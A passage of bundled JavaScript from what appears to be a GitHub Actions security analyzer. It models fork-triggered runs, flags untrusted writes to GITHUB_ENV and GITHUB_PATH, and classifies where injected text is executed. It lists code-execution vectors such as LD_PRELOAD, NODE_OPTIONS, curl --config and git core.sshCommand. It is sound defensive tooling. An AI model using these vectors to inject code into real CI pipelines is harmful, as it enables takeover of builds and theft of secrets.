 * What is sure about the runs that somebody without write access starts by `event`, from a fork, when an expression is
 * evaluated for them: one for each way in which the names that the owner chose may come out.
 *
 * @param more is known of these runs, by dotted paths in lower case
 * @see Events that trigger workflows, `GITHUB_REF` of each event. A run for a merged pull request belongs to its base branch,
 *   but it is whoever merged it that started it.
 */
function strangersRuns(expression, event, more = new Map()) {
    return namesOfOurs(expression).map((names) => {
        const facts = new Map([...factsOf(names, event), ...more]);
        return { lookup: (path) => facts.get(path.join(".")) ?? expressions/* UNKNOWN */.HV };
    });
}
function factsOf({ repository, defaultBranch }, event) {
    const ours = { repository, id: (0,expressions/* shaped */.e9)(OUR_ID) };
    return new Map([
        ["github.event_name", (0,expressions/* known */.eO)(event)],
        ["github.repository", (0,expressions/* known */.eO)(repository)],
        ["github.repository_id", ours.id],
        ["github.repository_owner", (0,expressions/* known */.eO)(ownerOf(ours))],
        ["github.repository_owner_id", ours.id],
        ...repositoryAt("github.event.repository", ours),
        ["github.event.repository.default_branch", (0,expressions/* known */.eO)(defaultBranch)],
        ["github.ref_type", (0,expressions/* known */.eO)("branch")],
        ...refsOf(event),
        ...payloadOf(event),
        ...headsOf(event, ours),
    ]);
}
/** Where the code of the run comes from, and where it wants to go. */
function headsOf(event, ours) {
    if (event === "workflow_run") {
        return [
            ...forkAt("github.event.workflow_run.head_repository"),
            ...repositoryAt("github.event.workflow_run.repository", ours),
            ["github.event.workflow_run.event", (0,expressions/* shaped */.e9)(EVENT_OF_STRANGERS)],
        ];
    }
    if (!event.startsWith("pull_request"))
        return [];
    const pullRequest = "github.event.pull_request";
    return [
        ...forkAt(`${pullRequest}.head.repo`),
        ...ownerAt(`${pullRequest}.head.user`, STRANGERS_FORK),
        ...repositoryAt(`${pullRequest}.base.repo`, ours),
        ...ownerAt(`${pullRequest}.base.user`, ours),
    ];
}
function forkAt(path) {
    return [[`${path}.fork`, (0,expressions/* known */.eO)(true)], ...repositoryAt(path, STRANGERS_FORK)];
}
function repositoryAt(path, party) {
    return [[`${path}.full_name`, (0,expressions/* known */.eO)(party.repository)], [`${path}.id`, party.id], ...ownerAt(`${path}.owner`, party)];
}
function ownerAt(path, party) {
    return [
        [`${path}.login`, (0,expressions/* known */.eO)(ownerOf(party))],
        [`${path}.id`, party.id],
    ];
}
function ownerOf({ repository }) {
    return repository.split("/")[0];
}
function refsOf(event) {
    const [ref, name] = ON_MERGE_REF.has(event)
        ? [(0,expressions/* textAroundNumber */.cM)("refs/pull/", "/merge"), (0,expressions/* textAroundNumber */.cM)("", "/merge")]
        : [(0,expressions/* textAfter */.eC)("refs/heads/"), (0,expressions/* textAfter */.eC)("")];
    return [
        ["github.ref", (0,expressions/* shaped */.e9)(ref)],
        ["github.ref_name", (0,expressions/* shaped */.e9)(name)],
    ];
}
function payloadOf(event) {
    return Array.from(SET_BY, ([path, events]) => {
        if (!events.includes(event))
            return [path, (0,expressions/* known */.eO)(null)];
        return [path, (0,expressions/* shaped */.e9)(path.startsWith("github.event.") ? expressions/* SOME_OBJECT */.Fw : (0,expressions/* textAfter */.eC)(""))];
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/gates.js


/**
 * Do conditions keep a stranger's run out of a job?
 *
 * The job's `if:` and those of the jobs that it needs are evaluated for a run that somebody without write access starts by
 * `event`, from a fork. What can't be known counts as passable.
 */
function keepsStrangersOut(job, event) {
    return stoppedJobs(job.workflow, event).has(job);
}
const stopped = new WeakMap();
/** By workflow and event: every job asks. */
function stoppedJobs(workflow, event) {
    let ofWorkflow = stopped.get(workflow);
    if (!ofWorkflow) {
        ofWorkflow = new Map();
        stopped.set(workflow, ofWorkflow);
    }
    let jobs = ofWorkflow.get(event);
    if (!jobs) {
        jobs = findStoppedJobs(workflow, event);
        ofWorkflow.set(event, jobs);
    }
    return jobs;
}
function findStoppedJobs(workflow, event) {
    const found = new Set(workflow.jobs.filter((job) => isNeverMet(conditionOf(job), event)));
    const needing = jobsByNeed(workflow);
    // Grows while it is walked: a skipped job skips those that need it, unless their condition asks for its status itself.
    for (const job of found) {
        for (const next of needing.get(job) ?? [])
            if (!asksForStatus(conditionOf(next)))
                found.add(next);
    }
    return found;
}
function jobsByNeed(workflow) {
    const needing = new Map();
    for (const job of workflow.jobs) {
        for (const { value } of job.needs) {
            const needed = workflow.job(value);
            if (!needed)
                continue;
            const known = needing.get(needed);
            if (known)
                known.push(job);
            else
                needing.set(needed, [job]);
        }
    }
    return needing;
}
function conditionOf(job) {
    const scalar = job.condition;
    if (!scalar)
        return undefined;
    const condition = (0,expressions/* parseCondition */.zB)(scalar.value);
    return condition.kind === "expression" ? condition.expression : undefined;
}
function isNeverMet(condition, event) {
    if (condition === undefined)
        return false;
    return strangersRuns(condition, event).every((run) => (0,expressions/* truthiness */.w8)((0,expressions/* evaluate */._3)(condition, run)) === false);
}
const STATUS_FUNCTIONS = new Set(["always", "cancelled", "failure"]);
function asksForStatus(condition) {
    let asks = false;
    if (condition) {
        (0,expressions/* visitExpression */.wM)(condition, (node) => {
            if (node.kind === "call" && STATUS_FUNCTIONS.has(node.name))
                asks = true;
        });
    }
    return asks;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/starts.js



/** The ways in which strangers start a workflow by an event; conditions of calls that keep them out are seen through. */
function startsBy(event, workflow, repository) {
    const starts = workflow.trigger(event) ? [{ fired: workflow, call: null }] : [];
    for (const call of repository.callersOf(workflow)) {
        const fired = keepsStrangersOut(call, event) ? undefined : firedBy(event, call.workflow, repository);
        if (fired)
            starts.push({ fired, call });
    }
    return starts;
}
/** Says who starts it, as Markdown. */
function describeStart(event, { fired, call }) {
    return call ? `\`${event}\` of \`${fired.path}\`` : `\`${event}\``;
}
/** The workflow itself where the event fires it, or one that the event fires and that calls it, through others maybe. */
function firedBy(event, workflow, repository) {
    const reached = new Set([workflow]);
    for (const one of reached) {
        if (one.trigger(event))
            return one;
        for (const call of repository.callersOf(one)) {
            if (!keepsStrangersOut(call, event))
                reached.add(call.workflow);
        }
    }
    return undefined;
}
/** What a start gives the inputs, by `inputs.<name>` in lower case; what isn't constant is missing. */
function inputsGiven(workflow, { call }) {
    const given = new Map();
    if (!call)
        return given;
    for (const input of workflow.trigger("workflow_call")?.inputs ?? []) {
        const value = constantOf(argumentOf(call, input) ?? input.default);
        if (value)
            given.set(`inputs.${input.name.toLowerCase()}`, value);
    }
    return given;
}
/** Names of inputs have no case. */
function argumentOf(call, { name }) {
    const entry = call.with?.entries.find(({ key }) => key.value.toLowerCase() === name.toLowerCase());
    return entry?.value.kind === "scalar" ? entry.value : undefined;
}
function constantOf(scalar) {
    if (!scalar)
        return undefined;
    if ((0,model/* expressionsIn */.l$)(scalar).length === 0)
        return (0,expressions/* known */.eO)(scalar.typed);
    const whole = (0,model/* wholeExpression */.wY)(scalar)?.expression;
    const result = whole && (0,expressions/* evaluate */._3)(whole, expressions/* NOTHING_KNOWN */.GN);
    return result?.known ? result : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/github-env.js








const FILES = ["GITHUB_ENV", "GITHUB_PATH"];
/* harmony default export */ const github_env = (defineRule({
    id: "github-env",
    category: "injection",
    severity: "high",
    isZizmor: true,
    summary: "Something that isn't fixed is written to GITHUB_ENV or GITHUB_PATH where strangers can start the run",
    risk: "A line of the attacker's in that file sets any variable of the steps that follow (`LD_PRELOAD`, `NODE_OPTIONS`, `PATH`), and so runs code in them.",
    mend: "Hand values on as step outputs (`GITHUB_OUTPUT`) and read them where they are needed; write only fixed text to `GITHUB_ENV` and `GITHUB_PATH`.",
    sources: [
        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable",
    ],
    examples: { flagged: [], silent: [] },
    run(run, report) {
        judge(run.scalar, run.shell, run.step, report);
    },
    uses({ uses, step }, report) {
        if (!step || uses.target.kind !== "repository" || !step.with)
            return;
        const name = (0,model/* nameOf */.Vb)(uses.target);
        for (const input of codeInputsOf(name)) {
            const value = step.input(input)?.value;
            if (value?.kind === "scalar")
                judge(value, languageOf(name), step, report);
        }
    },
}));
function judge(scalar, shell, step, report) {
    // The look at the text is cheaper than to find out who starts it, and to parse the script.
    if (!(0,lib_shell/* mayWriteEnvironmentFiles */.bN)(scalar.value, FILES))
        return;
    const who = whoStarts(step, report.repository);
    if (who === null)
        return;
    for (const write of (0,lib_shell/* environmentFileWrites */.Uh)(scriptOf(scalar, shell, step), FILES)) {
        if (write.content === "static" || isFixedByEnv(write, step))
            continue;
        const span = scalar.spanOf(write.span.start, write.span.end);
        const message = `Text that isn't fixed is written to \`${write.file}\`, and ${who}`;
        report({ file: scalar.file, ...span }, message, {
            confidence: step.owner.kind === "composite" ? "low" : "medium",
        });
    }
}
/** Null where only people with write access can start the run. */
function whoStarts({ owner }, repository) {
    if (owner.kind === "composite")
        return "a workflow that strangers can start may call this action";
    const start = privilegedStart(owner.workflow, repository);
    return start === undefined ? null : `strangers can start this run by ${start}`;
}
/** The first event by which strangers start it with secrets, as Markdown; its own before those of its callers. */
function privilegedStart(workflow, repository) {
    const triggers = [workflow, ...repository.workflows].flatMap((one) => one.triggers);
    for (const event of new Set(triggers.map((trigger) => trigger.event))) {
        const [start] = isPrivileged(event) ? startsBy(event, workflow, repository) : [];
        if (start)
            return describeStart(event, start);
    }
    return undefined;
}
/** The script, with expressions that nobody else fills read as plain text of their length. */
function scriptOf(scalar, shell, step) {
    const all = (0,model/* expressionsIn */.l$)(scalar);
    const open = all.filter((embedded) => namesFile(embedded) || !isHarmless(embedded, step));
    if (open.length === all.length && step.run?.scalar === scalar)
        return step.run.script;
    const kept = new Set(open);
    let text = "";
    let at = 0;
    for (const embedded of all) {
        if (kept.has(embedded))
            continue;
        text += scalar.value.slice(at, embedded.start) + "x".repeat(embedded.end - embedded.start);
        at = embedded.end;
    }
    return (0,lib_shell/* parseScript */.tl)(text + scalar.value.slice(at), shell, open);
}
/** `${{ github.env }}` is the file itself. */
function namesFile({ expression }) {
    const path = expression && (0,expressions/* contextPath */.VJ)(expression);
    return path?.segments[0] === "github" && (path.segments[1] === "env" || path.segments[1] === "path");
}
function isHarmless({ expression }, step) {
    return expression !== undefined && rateExpression(expression, step).persona !== "regular";
}
/** All that isn't fixed in the script itself are variables that an `env:` block gives fixed text. */
function isFixedByEnv({ command }, step) {
    const parts = command?.args.flatMap((word) => word.parts) ?? [];
    const variables = parts.filter((part) => part.kind === "variable" && part.operator === undefined);
    const isOnlyVariables = parts.every((part) => part.kind === "literal" || part.kind === "variable");
    if (variables.length === 0 || !isOnlyVariables || !["echo", "printf"].includes(command?.name?.literal ?? ""))
        return false;
    return parts.every((part) => part.kind !== "variable" || isFixed(step.variable(part.name)?.value, step));
}
function isFixed(value, step) {
    return value != null && (0,model/* expressionsIn */.l$)(value).every((embedded) => isHarmless(embedded, step));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/shared-text.js
const targetsByFile = new WeakMap();
/**
 * Do anchors give a text of a step to another place of the file, too, so that an edit changes more than the step?
 * A step that is repeated as a whole shares nothing: each copy has all of the edit.
 */
function isSharedText(scalar, step, root) {
    if (!contains(step, scalar))
        return true;
    return aliasTargets(root).some((target) => target !== step && contains(step, target) && contains(target, scalar));
}
function contains(outer, inner) {
    return outer.start <= inner.start && inner.end <= outer.end;
}
function aliasTargets(root) {
    let targets = targetsByFile.get(root.file);
    if (!targets) {
        targets = [...new Set(targetsIn(root))];
        targetsByFile.set(root.file, targets);
    }
    return targets;
}
/** What an alias stands for is gone through where its anchor is. */
function* targetsIn(node) {
    if (node.kind === "scalar")
        return;
    for (const { value, alias } of node.kind === "map" ? node.entries : node.items) {
        if (alias)
            yield value;
        else
            yield* targetsIn(value);
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/run-arguments.js
/** Long options whose value is run, whatever the command; a program takes their beginnings for them, too. */
const LONG_OPTIONS = words("checkpoint-action command compress-program eval exec exec-batch exec-path extcmd info-script new-volume-script " +
    "open-files-in-pager receive-pack rmt-command rsh rsh-command rsync-path to-command unzip-command upload-pack " +
    "use-askpass use-compress-program");
/** Options of one program, or of one of its commands, whose value is run or holds settings that are. */
const OWN_OPTIONS = new Map([
    ["curl", ["-K", "--config"]],
    ["gh", ["-q", "--jq"]],
    ["git clone", ["-u", "-c", "--config"]],
    ["git difftool", ["-x"]],
    ["git grep", ["-O"]],
    ["git rebase", ["-x"]],
    ["rsync", ["-e"]],
    ["scp", ["-o", "-S"]],
    ["sftp", ["-o", "-S"]],
    ["split", ["--filter"]],
    ["tar", ["-I", "-F"]],
    ["wget", ["-e", "--execute"]],
]);
/** Commands of git and gh that run their arguments, or keep them to be run. */
const RUN_ARGUMENTS = new Set(["gh alias", "git bisect", "git filter-branch", "git submodule"]);
/** Settings of git that name a program. */
const GIT_PROGRAM = /^(?:alias|pager|credential|filter|include(?:if)?)\.|^core\.(?:askpass|editor|fsmonitor|gitproxy|hookspath|pager|sshcommand)$|^sequence\.editor$|\.(?:clean|cmd|command|driver|external|helper|process|program|receivepack|smudge|textconv|uploadpack|vcs)$/i;
/** Does a command run, as a program, the argument at an offset or a part of it? */
function runsArgument({ name, args }, offset) {
    const at = args.findIndex(({ start, end }) => start <= offset && offset < end);
    const program = name?.literal?.split("/").at(-1)?.toLowerCase();
    if (at === -1 || program === undefined)
        return false;
    if (isOptionsValue(args, at, LONG_OPTIONS))
        return true;
    const commands = [program, ...args.slice(0, at).map(({ literal }) => `${program} ${literal}`)];
    if (commands.some((command) => RUN_ARGUMENTS.has(command)))
        return true;
    if (commands.some((command) => isOptionsValue(args, at, OWN_OPTIONS.get(command) ?? [])))
        return true;
    if (program === "git")
        return commands.includes("git config") && setsProgram(args.slice(0, at + 1));
    return JQ.has(program) && at === filterOfJq(args);
}
function words(names) {
    return names.split(" ").map((name) => `--${name}`);
}
/** `--option=value`, `--option value`, `-ovalue`, `-o value`. */
function isOptionsValue(args, at, options) {
    const own = unquoted(args[at]);
    const before = unquoted(args[at - 1]);
    return options.some((option) => {
        if (!option.startsWith("--"))
            return own.startsWith(option) || before === option;
        const written = /^(--[\w-]{2,})=/.exec(own)?.[1] ?? before;
        return written.length > 3 && option.startsWith(written);
    });
}
function unquoted(word) {
    return word?.literal ?? word?.text.replace(/["'\\]/g, "") ?? "";
}
/** A key that isn't known may be any. */
function setsProgram(args) {
    const key = args.find((word) => unquoted(word).includes("."));
    return key === undefined || key.literal === undefined || GIT_PROGRAM.test(key.literal);
}
const JQ = new Set(["gojq", "jaq", "jq"]);
/** How many words follow an option of jq. @see jq(1), "INVOKING JQ" */
const JQ_OPTIONS = new Map([
    ["--arg", 2],
    ["--argjson", 2],
    ["--argfile", 2],
    ["--slurpfile", 2],
    ["--rawfile", 2],
    ["--indent", 1],
    ["-L", 1],
]);
/** Index of the filter among the arguments of jq: the first that is neither an option nor an option's value. */
function filterOfJq(args) {
    for (let at = 0; at < args.length; at++) {
        const text = unquoted(args[at]);
        if (!text.startsWith("-"))
            return at;
        at += JQ_OPTIONS.get(text) ?? 0;
    }
    return -1;
}
const PROGRAM_VARIABLE = /^(?:BASH_ENV|BROWSER|EDITOR|ENV|GH_(?:BROWSER|EDITOR|PAGER)|GIT_(?:ASKPASS|CONFIG\w*|EDITOR|EXEC_PATH|EXTERNAL_DIFF|PAGER|PROXY_COMMAND|SEQUENCE_EDITOR|SSH\w*)|IFS|JAVA_TOOL_OPTIONS|LD_\w+|LESSOPEN|MAKEFLAGS|NODE_OPTIONS|PAGER|PATH|PERL5OPT|PROMPT_COMMAND|PS4|PYTHON\w+|RSYNC_RSH|RUSTC_WRAPPER|S(?:SH|UDO)_ASKPASS|TAR_OPTIONS|VISUAL)$/;
/** Do shells or other programs run what stands in the variable? */
function isProgramVariable(name) {
    return PROGRAM_VARIABLE.test(name);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/text-fate.js


/** Programs whose arguments, or some of them, are code. */
const CODE_COMMANDS = new Set((". ash awk bash busybox cmd csh dash declare doas docker env eval ex fish flock gawk iex invoke-expression irb ksh let lua mawk nawk " +
    "nerdctl node nodejs nsenter osascript parallel perl php podman powershell pwsh rscript ruby rush script sed setsid sh source ssh su " +
    "tclsh tcsh trap typeset watch xonsh zsh kubectl oc invoke-command start-process add-type new-module").split(" "));
const VERSIONED = /^(?:python|pypy|ruby|perl|lua|php|node)[\d.]*$/;
/** Programs that take words as they are. */
const DATA_COMMANDS = new Set(("[ [[ basename cat cd cmp cp curl date dirname echo exit export false gh git grep head jq local ls mkdir mv printf pwd readonly realpath " +
    "return rm sha256sum sleep tail tee test touch tr true wc write-error write-host write-output write-verbose write-warning").split(" "));
/** Tests that read their operands as arithmetic, or as names of variables (bash, "Conditional Expressions"). */
const ARITHMETIC_TEST = /^-(?:eq|ne|lt|le|gt|ge|v|R)$/;
/** Operators of `${X…}` whose operand is text; in the others it is a pattern, a number or a name. */
const TEXT_OPERATORS = new Set([":-", "-", ":=", "=", ":+", "+", ":?", "?"]);
/** Words by which a script may run what it kept in a variable. Most scripts have none. */
const RUNS_TEXT = /\b(?:awk|bash|coproc|declare|docker|eval|exec|find|flock|gawk|iex|invoke-expression|kubectl|let|lua|node|parallel|perl|php|podman|powershell|pwsh|python[\d.]*|ruby|script|sed|sh|source|ssh|su|trap|typeset|watch|xargs|zsh)\b|@P\}|(?:^|[\s;&|(])\.\s|\$\(\(|\(\(|\blocal\s+-\w*i/im;
/** A command that runs its arguments, one of them a variable. */
const RUNS_ARGUMENTS = /\b(?:builtin|chroot|command|doas|env|ionice|nice|nohup|setsid|stdbuf|sudo|time|timeout|unshare)\b(?:[^\\\n]|\\[\s\S]){0,1000}?(?:\$(?!\{\{)|`)/i;
/** Bash reads a number, a subscript or a name there, and runs the substitutions that a variable brings along. */
const EVALUATES_VARIABLE = /\[\[[^\n]{0,300}?\s-(?:eq|ne|lt|le|gt|ge)\s|(?:\[|\btest)[^\n]{0,100}?\s["']?-[vR]["']?\s|\$\{!|\bprintf\s+-v\b|\b(?:local|read|unset)\b[^\n;=<]{0,200}\$(?!\{\{)|\w\[[^\]\n]{0,100}\$|\w\[[A-Za-z_]\w*\](?:\}|\+?=)|\$\{\w+:(?![-+=?])[^}\n]{0,100}[A-Za-z_$]/;
/** A variable, or what a substitution prints, where a command's name is expected. */
const RUNS_VARIABLE = /(?:^|[;&|({!`]|\b(?:do|elif|else|if|then|until|while)\s)[ \t]*["']?(?:\$[\w{@*(]|`)|(?:^|[;&|({])[ \t]*[&.][ \t]*["']?\$/m;
/**
 * Words by which a script may keep, or hand on, what a line prints: functions, `exec >file`, `alias`, a compound command
 * with a redirect or a pipe behind it, and a `$(`, `{` or `(` that gives a value and ends on a later line. Nothing is read
 * twice from different beginnings, so time grows with the length only.
 */
const GATHERS_OUTPUT = [
    /\bfunction\b|\w\s*\(\)|\b(?:exec|alias|coproc)\b/,
    /(?:\}|\bdone|\bfi|\besac|\))\s*(?:\d?>|&>|\|(?!\|))/,
    /[<>$]\((?:[^)\n<>$]|[<>$](?!\())*$/m,
    /^[^\n=]*=[^\n]*[({][ \t\r]*$/m,
    /`[^`\n]*$/m,
];
/** What becomes of the text at `offset` of a bash, sh or PowerShell script. */
function fateOf(script, offset) {
    const traits = traitsOf(script);
    if (isPlainLine(script, offset, traits))
        return "data";
    let fate = losesOutput(script, traits) ? "unknown" : "data";
    for (const command of script.commands) {
        const own = fateIn(command, offset, traits);
        if (own === "code")
            return "code";
        if (own === "unknown")
            fate = "unknown";
    }
    return fate;
}
/** May what a line prints end where nobody can follow it? */
function losesOutput(script, { gathersOutput }) {
    if (!gathersOutput)
        return false;
    if (/\bcoproc\b/.test(script.text))
        return true;
    return (!script.knowsPlaces || script.commands.some((command) => command.name?.literal === "exec" && writesFile(command)));
}
const traitsByScript = new WeakMap();
function traitsOf(script) {
    let found = traitsByScript.get(script);
    if (!found) {
        found = {
            runsVariables: [RUNS_TEXT, RUNS_ARGUMENTS, RUNS_VARIABLE, EVALUATES_VARIABLE].some((words) => words.test(script.text)),
            gathersOutput: GATHERS_OUTPUT.some((words) => words.test(script.text)),
        };
        traitsByScript.set(script, found);
    }
    return found;
}
const PLAIN_LINE = /^\s*(?:(?:if|elif|while)\s+)?(?:!\s+)?(?:echo|\[\[?|test|[A-Za-z_]\w*=["']?\S*$|export\s+\w+=)(?:\s|$)?[^|<>`;&()]*$/;
/** What only the parser understands: tests of numbers and of variables, `${X:${{ … }}}`, `$[…]`, an array, a line that goes on. */
const NEEDS_PARSER = /[\s"'\\]-["']?(?:eq|ne|lt|le|gt|ge|v|R)(?!\w)|\$\{(?!\{)[^\n]*\$\{\{|\$\[|=\(|\\$/;
const PRINTS = /\becho\b/;
/** Behind `echo`: what the runner reads there are values. */
const TO_RUNNERS_FILE = /\s>>\s*"?\$\{?GITHUB_(?:OUTPUT|ENV|STEP_SUMMARY)\}?"?\s*$/;
const ASSIGNMENT = /^\s*(?:export\s+)?([A-Za-z_]\w*)=/;
/** `echo …`, `[ … ]`, `X=…` on a line of its own: that needs no parser to be seen as harmless. */
function isPlainLine(script, offset, { runsVariables, gathersOutput }) {
    const { text } = script;
    const from = text.lastIndexOf("\n", offset - 1) + 1;
    const lineFeed = text.indexOf("\n", offset);
    const line = text.slice(from, lineFeed === -1 ? text.length : lineFeed);
    if (line.length > 400 || text[from - 2] === "\\" || NEEDS_PARSER.test(line))
        return false;
    const assigned = ASSIGNMENT.exec(line)?.[1];
    if (assigned !== undefined && (runsVariables || isProgramVariable(assigned)))
        return false;
    if (gathersOutput && PRINTS.test(line))
        return false;
    if (!PLAIN_LINE.test(text.slice(from, offset)) || /[|<>`]|\$\(/.test(line.replace(TO_RUNNERS_FILE, "")))
        return false;
    return script.quotingAt(from) === "none";
}
function fateIn(command, offset, { runsVariables }) {
    const place = placeIn(command, offset);
    if (place === null)
        return "data";
    if (place === "name" || command.place.nestedIn || isInOddExpansion(command, offset))
        return "code";
    const names = namesOf(command);
    if (names.some(takesCode) || mentionsInterpreter(command) || hasOddOperands(command, names))
        return "code";
    if (runsArgument((0,lib_shell/* effectiveCommand */.l1)(command), offset))
        return "code";
    const readers = readersOf(command);
    if (readers.some((reader) => hasOpenName(reader) || namesOf(reader).some(takesCode)))
        return "code";
    if (isDeclaredName(command, names, offset))
        return names.includes("local") ? "code" : "unknown";
    if (place === "assignment" || names.some((name) => DECLARE.has(name))) {
        return !runsVariables && !text_fate_setsProgram(command) && command.assignments.every(hasPlainName) ? "data" : "unknown";
    }
    // Whoever calls a function may do anything with what it prints.
    if (command.place.inFunction !== undefined || isWrittenToFile(command) || hasOpenName(command))
        return "unknown";
    return [...names, ...readers.flatMap(namesOf)].every((name) => DATA_COMMANDS.has(name)) ? "data" : "unknown";
}
/** Their arguments are assignments. */
const DECLARE = new Set(["export", "local", "readonly"]);
/** `local "${{ … }}=1"`: bash reads a subscript in it as arithmetic; `export` takes plain names only. */
function isDeclaredName({ args }, names, offset) {
    const word = args.find((candidate) => holds(candidate, offset));
    return (word !== undefined &&
        names.some((name) => DECLARE.has(name)) &&
        !word.text.slice(0, offset - word.start).includes("="));
}
/** `$RUN …`: nobody knows which program that is. */
function hasOpenName({ name }) {
    return name !== undefined && name.literal === undefined;
}
/** `GIT_SSH_COMMAND=…`, `export PAGER=…` */
function text_fate_setsProgram({ assignments, args }) {
    const names = [...assignments.map(({ name }) => name), ...args.map(({ text }) => text.split("=", 1)[0])];
    return names.some(isProgramVariable);
}
function hasPlainName({ name }) {
    return /^[A-Za-z_:]\w*$/.test(name.replace(/^env:/i, ""));
}
function placeIn(command, offset) {
    if (command.name && holds(command.name, offset))
        return "name";
    if (command.args.some((word) => holds(word, offset)))
        return "argument";
    for (const { target, heredoc } of command.redirects) {
        if ((target && holds(target, offset)) || (heredoc && holds(heredoc.body, offset)))
            return "argument";
    }
    const assignment = command.assignments.find((candidate) => holds(candidate, offset));
    if (!assignment)
        return null;
    // `a[…]=1` reads the subscript as arithmetic, and `a=([…]=1)` does.
    return assignment.values.some((word) => holds(word, offset) && !word.text.startsWith("[")) ? "assignment" : "name";
}
function holds({ start, end }, offset) {
    return start <= offset && offset < end;
}
/** The command, what it wraps (`sudo bash -c …`), and what stands in between; without folders, in lower case. */
function namesOf(command) {
    const effective = (0,lib_shell/* effectiveCommand */.l1)(command);
    const names = [command.name?.literal, effective?.name?.literal, ...(effective?.wrappers ?? [])];
    return names.flatMap((name) => (name === undefined ? [] : [name.split(/[\\/]/).at(-1)?.toLowerCase() ?? ""]));
}
function takesCode(name) {
    return CODE_COMMANDS.has(name) || VERSIONED.test(name);
}
/** `find … -exec sh -c`, `git -c alias.x=!…`, `script -c`, `xargs bash`: a word among the arguments that starts another program. */
function mentionsInterpreter({ args }) {
    return args.some(({ literal }) => {
        if (literal === undefined)
            return false;
        return /^-(?:exec|execdir|ok|okdir|c|-command)$/.test(literal) || /^(?:ba|da|k|z)?sh$/.test(literal);
    });
}
function hasOddOperands({ args }, names) {
    if (names.includes("(("))
        return true;
    if (names.includes("printf"))
        return args[0]?.literal === "-v";
    if (names.includes("local") || names.includes("export"))
        return args.some(({ literal }) => /^-\w*i/.test(literal ?? ""));
    const isTest = names.some((name) => name === "[" || name === "[[" || name === "test");
    return isTest && args.some(({ literal }) => literal !== undefined && ARITHMETIC_TEST.test(literal));
}
/** The command and the compound commands around it, innermost first: what goes for their output goes for its own. */
function* around(command) {
    yield command;
    for (let group = command.place.group; group; group = group.place.group)
        yield group;
}
/** The commands that read what the command prints. */
function readersOf(command) {
    return [...around(command)].flatMap(stagesBehind).flatMap(commandsOf);
}
function stagesBehind({ pipeline }) {
    return pipeline?.stages.slice(pipeline.index + 1) ?? [];
}
function commandsOf(stage) {
    return stage.kind === "command" ? [stage] : stage.commands;
}
/** Does what the command prints end in a file? One other than the runner's own may be run later. */
function isWrittenToFile(command) {
    const stages = [...around(command)].flatMap((stage) => [stage, ...stagesBehind(stage)]);
    const commands = [command, ...readersOf(command)];
    return stages.some(writesFile) || commands.some((reader) => writesFile(reader) || isTeeToFile(reader));
}
const RUNNERS_OWN = /GITHUB_|\/dev\/|^&?\d$/;
function writesFile({ redirects }) {
    return redirects.some(({ operator, target }) => /^[&]?>/.test(operator) && !RUNNERS_OWN.test(target?.text ?? ""));
}
function isTeeToFile(command) {
    const isTee = namesOf(command).some((name) => name === "tee" || name === "tee-object" || name === "out-file");
    return isTee && command.args.some(({ text }) => !text.startsWith("-") && !RUNNERS_OWN.test(text));
}
/** Inside `${X…}`, but for the text of `${X:-text}`. */
function isInOddExpansion({ args, assignments, redirects }, offset) {
    const written = redirects.flatMap(({ target, heredoc }) => [target, heredoc?.content]);
    const words = [...args, ...assignments.flatMap(({ values }) => values), ...written].filter((word) => word !== undefined);
    return words.some((word) => holds(word, offset) && word.parts.some((part) => isOddAround(part, offset)));
}
function isOddAround(part, offset) {
    if (!holds(part, offset))
        return false;
    if (part.kind === "arithmetic")
        return true;
    return part.kind === "variable" && isOddVariable(part, offset);
}
function isOddVariable({ operator, operand }, offset) {
    return !TEXT_OPERATORS.has(operator ?? "") || operand.some((part) => isOddAround(part, offset));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/word-count.js



/**
 * Names of branches and tags: git takes no space and no character of a pattern into them.
 *
 * True where the name is there whenever its object is; a deleted fork has no repository, and some runs have no branch.
 *
 * @see git-check-ref-format(1); the webhook payloads of the events that trigger workflows
 */
const REF_NAMES = new Map([
    ["github.base_ref", true],
    ["github.head_ref", true],
    ["github.ref", true],
    ["github.ref_name", true],
    ["github.event.merge_group.base_ref", true],
    ["github.event.merge_group.head_ref", true],
    ["github.event.pull_request.base.label", true],
    ["github.event.pull_request.base.ref", true],
    ["github.event.pull_request.head.label", true],
    ["github.event.pull_request.head.ref", true],
    ["github.event.pull_request.head.repo.default_branch", false],
    ["github.event.ref", false],
    ["github.event.release.tag_name", false],
    ["github.event.repository.default_branch", false],
    ["github.event.workflow_run.head_branch", false],
]);
/** `a || b` is as sure as the surer of the two; of other functions and operators nothing is sure. */
function wordCount(expression, step) {
    if (expression.kind === "literal")
        return countOfLiteral(expression.value);
    if (expression.kind === "logical" && expression.operator === "||") {
        const counts = [wordCount(expression.left, step), wordCount(expression.right, step)];
        return counts.includes("any") ? "any" : counts.includes("one") ? "one" : "one or none";
    }
    const path = (0,expressions/* contextPath */.VJ)(expression);
    return path?.exact ? countOfContext(path.segments, step) : "any";
}
function countOfLiteral(value) {
    const text = String(value ?? "");
    if (text === "")
        return "one or none";
    return /^[\w./:@%+=-]+$/.test(text) ? "one" : "any";
}
function countOfContext(segments, step) {
    const path = segments.join(".");
    const isThere = REF_NAMES.get(path);
    if (isThere === undefined)
        return isOneWord(segments) ? "one or none" : "any";
    return isThere && isAlwaysSet(path, step) ? "one" : "one or none";
}
/** Numbers, hashes, logins and addresses hold no spaces. */
function isOneWord(segments) {
    const capability = rateGithubContext(segments);
    return capability === "fixed" || capability === "structured";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/hand-over.js







/** Scripts with more are generated, or made to be slow. */
const MOST_EXPRESSIONS = 200;
/**
 * A fix that hands an expression's value over in `env:` and reads the variable where the expression stood, so that the
 * script never holds the text. Null where no reference would mean the same: in cmd, which pastes variables before it
 * reads them, in text that is read as code once more, where another shell may read the script, and where the place can't
 * be understood.
 */
function handOverThroughEnv(embedded, shell, step) {
    const { scalar, expression } = embedded;
    if (!expression || !embedded.isTerminated || (0,model/* expressionsIn */.l$)(scalar).length > MOST_EXPRESSIONS)
        return null;
    if (step.run && step.shell.from === "mixed")
        return null;
    const script = step.run?.scalar === scalar
        ? step.run.script
